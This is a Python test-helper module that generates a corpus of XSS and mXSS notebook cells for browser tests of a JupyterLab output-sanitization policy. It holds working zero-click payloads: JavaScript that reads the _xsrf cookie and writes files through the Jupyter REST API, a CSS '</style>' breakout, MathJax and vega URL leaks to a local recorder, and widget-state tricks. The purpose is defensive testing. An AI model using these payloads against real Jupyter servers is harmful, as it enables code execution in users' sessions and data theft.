"""Cells whose outputs try to act with the rights of the JupyterLab page that shows them, and
ordinary cells whose outputs a person must still see. Used by ``tests/test_browser.py``.

Two kinds of evidence, each from a cell of sandboxed code that only displays things:

- **file** (script) attacks run :func:`payload` in the page: it reads the ``_xsrf`` cookie and
  writes ``pwned-TAG-NAME.txt`` into the Jupyter server's root through ``PUT /api/contents/...``
  (the Jupyter server REST API, as measured in ENVIRONMENT.md). Evidence: the file exists.
- **request** (exfiltration) attacks make the browser load ``ORIGIN/leak/TAG/NAME`` from a server
  the test runs on 127.0.0.1 (a sandbox without network sending data out through the user's
  browser). Evidence: the request arrives.

``TAG`` names the notebook (e.g. ``kernel-trust``), so each notebook's evidence is its own.

Every attack in :data:`CORPUS` (its cells are data: ``tests/page_attacks.json``) fires zero-click under ``trust`` in JupyterLab 4.6.6 + Chromium
(the control notebooks prove it on every run). They are grouped by the class of hole in issue 16
(``Attack.group``): ``raw-input`` (what a policy passing its input along lets through: unknown
elements with handlers that fire on layout, spaced attributes, CSS escapes and strings),
``style-breakout`` (``</style>`` written by a CSS re-serializer), ``mermaid``, ``maths``
(MathJax's ``\\style``), ``vega`` and ``metadata`` (vega-embed's URL forms, ``usermeta`` and
``embed_options``), ``widget`` (state the browser moves between models), ``research`` (cells
written here for well-known XSS/mXSS techniques, not taken from a published list:
``noscript``/``noembed`` parser differentials, namespace confusion, SMIL, legacy fetching
attributes), ``paths`` (an ``execute_result``, a display update), ``frame`` (a framed script
navigating its frame) and ``basic``.
Attacks that need a person's click are :data:`CLICK_REQUIRED` (the browser test checks that
what they need is not offered); candidates that did not fire even under ``trust`` are listed
in :data:`NOT_IN_CORPUS` with the reason, so nobody adds them back believing they are live.

SVG attacks are inline ``<svg>`` in HTML: JupyterLab 4 shows an ``image/svg+xml`` output (and a
Mermaid diagram, once drawn) as an ``<img src="data:...">``, where neither scripts nor external
loads run even when trusted (seen here). ``<svg onload>`` inserted into the page did not fire
under ``trust``; ``<svg><script>``, ``<image onerror>`` and SMIL ``onbegin`` did.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from string import Template
from typing import Any

IMPORTS = "from IPython.display import HTML, Javascript, Latex, Markdown, display\n"


def payload(tag: str, name: str) -> str:
    """JavaScript (single quotes only, so it fits in a double-quoted HTML attribute) that
    creates ``pwned-TAG-NAME.txt`` in the server root when it runs with the page's rights."""
    return ("(function(){var m=document.cookie.match(/_xsrf=([^;]+)/);"
            f"fetch('/api/contents/pwned-{tag}-{name}.txt',{{method:'PUT',"
            "headers:{'X-XSRFToken':m?decodeURIComponent(m[1]):'','Content-Type':'application/json'},"
            "body:JSON.stringify({type:'file',format:'text',content:'x'})})})()")


def bare(js: str) -> str:
    """``data-p=BASE64 onerror=eval(atob(this.dataset.p))``: attributes that run ``js`` with no
    quote or space in their values, for markup where a quote would end the context (an
    attribute value in an mXSS payload, a CSS string). Use as ``<img src=x {bare(js)}>``."""
    return f"data-p={base64.b64encode(js.encode()).decode()} onerror=eval(atob(this.dataset.p))"


def show(kind: str, value: str) -> str:
    """The cell source ``display(KIND(VALUE))`` (IPython.display's HTML, Markdown, Latex, Javascript)."""
    return IMPORTS + f"display({kind}({value!r}))"


def raw(data: dict, metadata: dict | None = None) -> str:
    """The cell source that displays MIME bundle ``data`` (with ``metadata``) as it is."""
    return IMPORTS + f"display({data!r}, raw=True, metadata={metadata or {}!r})"


@dataclass(frozen=True)
class Attack:
    """One cell of the corpus.

    ``build(js, url)`` writes the cell source from ``js`` (the page script for this cell, see
    :func:`payload`) and ``url`` (the recorder URL for this cell); ``evidence`` says which one
    counts. ``widget``: needs comms (the kernel forwards them; the magic does not).
    ``isolate_documented``: under ``isolate`` it is a framed script sending data out by
    navigating its own frame, which docs/explanation/security.md states that ``isolate`` does not stop.
    """

    name: str
    group: str
    evidence: str  # "file" | "request"
    build: Callable[[str, str], str]
    widget: bool = False
    isolate_documented: bool = False


BOX = "width:40px;height:20px;border:1px solid gray"
VL = "https://vega.github.io/schema/vega-lite/v5.json"
VEGA = "https://vega.github.io/schema/vega/v5.json"


def _breakout(js: str) -> tuple[str, str]:
    """A CSS string that a CSS re-serializer writing strings unescaped turns into
    ``</style><img src=x onerror=JS>``; for the ``trust`` control the cell also shows that
    decoded form (the escaped form alone is harmless unless a policy decodes it)."""
    escaped = f'<style>.sk-q{{font-family:"\\3c /style\\3e \\3c img src=x {bare(js)}\\3e "}}</style>'
    decoded = f'<style>.sk-q{{font-family:"</style><img src=x onerror="{js}">"}}</style>'
    return escaped, decoded


def onerror(js: str) -> str:
    """``<img src="x" onerror="JS">``."""
    return f'<img src="x" onerror="{js}">'


def visible(js: str) -> str:
    """An unknown element whose handler runs when it is laid out, with no click: Chromium fires
    ``contentvisibilityautostatechange`` on an element styled ``content-visibility:auto``."""
    return f'<sk-x oncontentvisibilityautostatechange="{js}" style="display:block;content-visibility:auto">x</sk-x>'


def mermaid(text: str) -> dict:
    return {"text/vnd.mermaid": text, "text/plain": "a diagram"}


def _vl_image(url: str) -> dict:
    return {"$schema": VL, "data": {"values": [{"u": url, "x": 1}]}, "mark": {"type": "image", "width": 8, "height": 8},
            "encoding": {"x": {"field": "x", "type": "quantitative"}, "url": {"field": "u", "type": "nominal"}}}


def vl_bar() -> dict:
    return {"$schema": VL, "data": {"values": [{"a": "A", "b": 3}, {"a": "B", "b": 5}]}, "mark": "bar",
            "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}}}


VEGA_LITE = "application/vnd.vegalite.v5+json"
VEGA_MIME = "application/vnd.vega.v5+json"

ATTACKS = Path(__file__).with_name("page_attacks.json")
"""The corpus as data, in notebook order: ``{"corpus": [...], "click_required": [...]}``. Each
entry has ``name``, ``group``, ``evidence`` (optional ``widget``, ``isolate_documented``, and a
``note`` for people) and its cell: ``show`` (HTML, Markdown, Latex, Javascript) with a ``source``
template; or a ``raw`` MIME bundle (and ``metadata``) whose strings are templates; or ``python``:
built by the function registered under its name below (:func:`builds`). Templates are
:class:`string.Template`s of :func:`_fields` (``$js``, ``$url``, ``$bare``, ...); ``$$`` is a dollar."""
_BUILDERS: dict[str, Callable[[str, str], str]] = {}


def builds(name: str) -> Callable[[Callable[[str, str], str]], Callable[[str, str], str]]:
    """Register ``build(js, url)`` as the cell of the attack ``name`` (an entry with ``python``)."""
    def register(build: Callable[[str, str], str]) -> Callable[[str, str], str]:
        _BUILDERS[name] = build
        return build
    return register


# -- cells that show/raw cannot write: widgets, several displays, an execute_result -----------
# -- the first corpus (before issue 16) ---------------------------------------------------
builds("widget-html")(
    lambda js, url: f"import ipywidgets\nipywidgets.HTML(value={onerror(js)!r})")

# -- 2. </style> written by a CSS re-serializer ------------------------------------------
for _name, _kind in (("style-breakout-html", "HTML"), ("style-breakout-markdown", "Markdown")):
    builds(_name)(
        lambda js, url, kind=_kind: IMPORTS + "\n".join(f"display({kind}({part!r}))" for part in _breakout(js)))

# -- 4. Maths (MathJax 3 with its safe extension) ----------------------------------------
def _cursor(url: str) -> str:
    return f"\\style{{cursor:url({url}),auto}}{{X}}"


builds("widget-htmlmath-in-code-process-class")(
    lambda js, url: f"import ipywidgets\nipywidgets.HTMLMath(value={f'<code class={chr(34)}mathjax_process{chr(34)}>${_cursor(url)}$</code>'!r})")
builds("widget-htmlmath-style-url")(
    lambda js, url: f"import ipywidgets\nipywidgets.HTMLMath(value={f'Maths: ${_cursor(url)}$'!r})")
builds("widget-label-style-url")(
    lambda js, url: f"import ipywidgets\nipywidgets.Label(value={f'${_cursor(url)}$'!r})")

# -- 7. Widget state moved around by the browser -----------------------------------------
builds("widget-jsdlink-text-to-html")(lambda js, url: (
    "import ipywidgets\n"
    f"source = ipywidgets.Text(value={onerror(js)!r})\n"
    "target = ipywidgets.HTML(value='linked')\n"
    "link = ipywidgets.jsdlink((source, 'value'), (target, 'value'))\n"
    "target"))
builds("widget-jsdlink-allow-html")(lambda js, url: (
    # ipywidgets 8.1 passes an HTML description through the manager's inline_sanitize (no
    # handlers survive, even under trust), but an image from another origin does
    "import ipywidgets\n"
    f"slider = ipywidgets.IntSlider(description={f'<img src={chr(34)}{url}{chr(34)} width=8>'!r})\n"
    "switch = ipywidgets.Checkbox(value=True)\n"
    "link = ipywidgets.jsdlink((switch, 'value'), (slider, 'description_allow_html'))\n"
    "slider"))
builds("widget-jsdlink-image-format")(lambda js, url: (
    "import ipywidgets\n"
    f"image = ipywidgets.Image(value={url.encode()!r}, format='png', width=8, height=8)\n"
    "word = ipywidgets.Text(value='url')\n"
    "link = ipywidgets.jsdlink((word, 'value'), (image, 'format'))\n"
    "image"))
builds("widget-image-format-url")(lambda js, url: (
    f"import ipywidgets\nipywidgets.Image(value={url.encode()!r}, format='url', width=8, height=8)"))
builds("widget-video-format-url")(lambda js, url: (
    f"import ipywidgets\nipywidgets.Video(value={url.encode()!r}, format='url', autoplay=False, width=8)"))
builds("widget-audio-format-url")(lambda js, url: (
    f"import ipywidgets\nipywidgets.Audio(value={url.encode()!r}, format='url', autoplay=False)"))
builds("widget-html-list-value")(lambda js, url: (
    "import ipywidgets\n"
    "html = ipywidgets.HTML(value='list')\n"
    "display(html)\n"
    f"html._send({{'method': 'update', 'state': {{'value': [{onerror(js)!r}]}}, 'buffer_paths': []}})"))
builds("widget-style-css-escape")(lambda js, url: (
    "import ipywidgets\n"
    f"ipywidgets.HTML(value='bg', style={{'background': {f'{chr(92)}75 rl({url})'!r}}})"))
builds("widget-description-maths")(lambda js, url: (
    # a description is text, but the view typesets its maths (no description_allow_html needed)
    f"import ipywidgets\nipywidgets.IntSlider(description={f'${_cursor(url)}$'!r})"))
builds("widget-html-raw-contentvisibility")(lambda js, url: (
    "import ipywidgets\n"
    f"ipywidgets.HTML(value={visible(js)!r})"))
builds("widget-html-style-breakout")(lambda js, url: (
    "import ipywidgets\n" + "\n".join(f"display(ipywidgets.HTML(value={part!r}))" for part in _breakout(js))))
builds("widget-output-raw-contentvisibility")(lambda js, url: (
    IMPORTS + "import ipywidgets\nout = ipywidgets.Output()\ndisplay(out)\n"
    f"out.append_display_data(HTML({visible(js)!r}))"))

def _output_widget(bundle: dict, metadata: dict | None = None) -> str:
    """A cell that puts ``bundle`` into an ``Output`` widget's ``outputs`` state (rendered by the
    page's rendermime, not by the display path)."""
    output = {"output_type": "display_data", "data": bundle, "metadata": metadata or {}}
    return f"import ipywidgets\nout = ipywidgets.Output()\nout.outputs = ({output!r},)\nout"


builds("widget-output-mermaid-img")(lambda js, url: _output_widget(mermaid(
    f'flowchart LR\n  A@{{ img: "{url}", label: "a", pos: "t", w: 30, h: 30, constraint: "off" }}\n  A --> B\n')))
builds("widget-output-vega-url")(lambda js, url: _output_widget(
    {VEGA_LITE: _vl_image(url), "text/plain": "chart"}))
builds("widget-output-vega-metadata")(lambda js, url: _output_widget(
    {VEGA_LITE: vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"config": url}}}))
builds("widget-output-latex-style")(lambda js, url: _output_widget(
    {"text/latex": f"$${_cursor(url)}$$", "text/plain": "X"}))
builds("widget-output-math-process-class")(lambda js, url: _output_widget(
    {"text/html": f'<code class="mathjax_process">${_cursor(url)}$</code>', "text/plain": "X"}))
builds("widget-jslink-text-to-html")(lambda js, url: (
    "import ipywidgets\n"
    f"source = ipywidgets.Text(value={onerror(js)!r})\n"
    "target = ipywidgets.HTML(value='linked')\n"
    "link = ipywidgets.jslink((source, 'value'), (target, 'value'))\n"
    "target"))

# -- other ways an output reaches the page: execute_result, display updates -----------------
builds("execute-result-html")(lambda js, url: IMPORTS + f"HTML({visible(js)!r})")
builds("display-update-html")(lambda js, url: (
    IMPORTS + f"handle = display(HTML('<p>first</p>'), display_id=True)\nhandle.update(HTML({visible(js)!r}))"))

def _fields(js: str, url: str) -> dict[str, str]:
    """What a template may name: the page script ``js``, the recorder ``url``, and forms of them."""
    return {"js": js, "url": url, "bare": bare(js), "onerror": onerror(js), "visible": visible(js),
            "cursor": _cursor(url)}


def _filled(value: Any, fields: dict[str, str]) -> Any:
    """``value`` (a template, or JSON data of templates, keys too) with ``fields`` put in."""
    if isinstance(value, str):
        return Template(value).substitute(fields)
    if isinstance(value, dict):
        return {_filled(key, fields): _filled(item, fields) for key, item in value.items()}
    if isinstance(value, list):
        return [_filled(item, fields) for item in value]
    return value


def _cell(entry: dict) -> Callable[[str, str], str]:
    if entry.get("python"):
        return _BUILDERS[entry["name"]]
    if "show" in entry:
        return lambda js, url: show(entry["show"], _filled(entry["source"], _fields(js, url)))
    return lambda js, url: raw(_filled(entry["raw"], _fields(js, url)), _filled(entry.get("metadata"), _fields(js, url)))


def _load(part: str) -> tuple[Attack, ...]:
    return tuple(Attack(e["name"], e["group"], e["evidence"], _cell(e), widget=e.get("widget", False),
                        isolate_documented=e.get("isolate_documented", False))
                 for e in json.loads(ATTACKS.read_text())[part])


CORPUS = _load("corpus")
"""Every attack, in notebook order."""
CLICK_REQUIRED = _load("click_required")
"""Attacks that need a person to act: the vega-embed actions menu ("..."), then "View Source"
(vega-embed writes the spec and ``sourceHeader``/``sourceFooter`` unescaped into a same-origin
popup, where their script runs with the page's rights); a ``target="_top"`` link replaces the
Lab page; an invisible ``position:fixed`` link over the whole page turns the next click anywhere
into a request to another origin; JupyterLab's CommandLinker runs the command a
``data-commandlinker-command`` names (a terminal on the host) when the element is clicked. Fired under ``trust`` by hand
(2026-11-24); the policy must still remove them (no actions menu, no ``target``)."""

NOT_IN_CORPUS = {
    "mxss-math-mtext-table": "<math><mtext><table><mglyph><style><img onerror> mutates only on a second parse "
                             "(a sanitizer's round trip); one innerHTML under trust leaves the img as text",
    "widget-description-onerror": "ipywidgets 8.1 passes an HTML description through the widget manager's "
                                  "inline_sanitize: handlers never survive, even under trust (images do: in the "
                                  "corpus)",
    "widget-togglebuttons-label": "ToggleButtonsView writes option labels with innerHTML, but escapes them first",
    "latex-fcolorbox-css": "\\fcolorbox{red}{red;cursor:url(OTHER)}{X} (the policy checks only the first colour) and "
                           "\\colorbox/\\hspace with CSS after a ';': MathJax 3.2 sets them as single style "
                           "properties, nothing fetched under trust",
    "svg-use-external": "<svg><use href=OTHER#a>: Chromium refuses a cross-origin <use> before any request",
    "html-math-in-pre-tex2jax-class": "<pre class=tex2jax_process>: MathJax 3 as JupyterLab configures it only "
                                      "knows mathjax_process (in the corpus)",
    "pager-payload-html": "page.page({'text/html': ...}) in the sandbox fires on a plain kernel, but neither the "
                          "sandbox kernel nor the magic forwards execute_reply pager payloads, even under trust "
                          "(so `obj?` help from the sandbox is not shown either)",
    "template-img-onerror": "<template> content is inert; declarative shadow roots are not parsed by innerHTML",
    "vega-editor-url-javascript": "embed_options.editorUrl='javascript:...' then 'Open in Vega Editor': no popup ran "
                                  "it under trust (Chromium 156); the policy removes the actions menu anyway",
    "base-href": "<base href=OTHER> in an output re-targets every relative URL of the page, the Lab's own API "
                 "calls too: it would break the trust control's page, so it is left to the unit and fuzz tiers",
    "meta-refresh": "<meta http-equiv=refresh> would navigate the trust control's page away; framed, it is the "
                    "isolate frame-navigation case (frame-navigates-itself)",
    "dom-clobbering": "<img name=cookie> etc. shadow document properties, but no JupyterLab 4.6.6 code path was "
                      "found where that turns into script or a fetch; html5lib judges ids/names in the fuzz tier",
    "vegalite-mark-cursor-url": "mark.cursor='url(OTHER), auto': not fetched without a pointer over the chart "
                                "(hover-only; the policy drops cursor anyway)",
    "vegalite-background-url": "background='url(OTHER)': Vega paints it as a colour, nothing fetched under trust",
    "webrtc": "RTCPeerConnection STUN from an isolate frame needs a UDP recorder; the lead documents it as not "
              "stopped by isolate",
}
"""``{candidate: why it is not in the corpus}``: click- or hover-only, or inert under ``trust``."""


def corpus(tag: str, origin: str, *, widgets: bool = True) -> dict[str, tuple[str, Attack]]:
    """``{attack name: (cell source, attack)}`` for notebook ``tag``; the recorder is at
    ``origin``. ``widgets``: include the attacks that need comms."""
    return {a.name: (a.build(payload(tag, a.name), f"{origin}/leak/{tag}/{a.name}?d=secret"), a)
            for a in CORPUS if widgets or not a.widget}


def inspect_reply(url: str) -> dict[str, str]:
    """Cells that make the sandbox's kernel answer every ``inspect_request`` (Shift+Tab's tooltip,
    the Contextual Help panel as the cursor moves) with HTML holding an image from ``url``, then
    a cell to inspect. JupyterLab renders an inspect reply's bundle untrusted (its sanitizer
    keeps images from any origin), so it is a way out unless the kernel polices the reply."""
    patch = ("kernel = get_ipython().kernel\n"
             "def do_inspect(code, cursor_pos, detail_level=0, omit_sections=()):\n"
             "    return {'status': 'ok', 'found': True, 'metadata': {},\n"
             f"            'data': {{'text/html': {f'<img src={chr(34)}{url}{chr(34)} width=8>'!r}, "
             "'text/plain': 'help'}}\n"
             "kernel.do_inspect = do_inspect")
    return {"inspect-patch": patch, "inspect-here": "len"}


def click_required(tag: str, origin: str) -> dict[str, str]:
    """``{name: cell source}`` of :data:`CLICK_REQUIRED` for notebook ``tag``."""
    return {a.name: a.build(payload(tag, a.name), f"{origin}/leak/{tag}/{a.name}?d=secret") for a in CLICK_REQUIRED}
